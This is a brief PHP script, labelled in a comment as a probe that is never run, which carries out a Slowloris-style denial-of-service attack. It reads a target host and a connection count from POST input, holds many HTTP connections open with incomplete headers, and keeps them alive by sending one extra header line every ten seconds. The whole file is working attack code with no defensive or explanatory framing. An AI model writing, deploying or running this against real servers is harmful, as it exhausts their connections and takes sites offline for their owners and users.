<?php
// probe (never run): many connections kept open with partial headers, one more header line at a time
$h = $_POST['host']; $n = (int) $_POST['n'];
$socks = array();
for ($i = 0; $i < $n; $i++) {
    $s = @fsockopen($h, 80, $e, $es, 3);
    if ($s) { fwrite($s, "GET /?" . rand() . " HTTP/1.1\r\nHost: $h\r\nUser-Agent: Mozilla/5.0\r\n"); $socks[] = $s; }
}
while (count($socks)) {
    foreach ($socks as $k => $s) {
        if (@fwrite($s, "X-a: " . rand(1, 5000) . "\r\n") === false) unset($socks[$k]);
    }
    sleep(10);
}
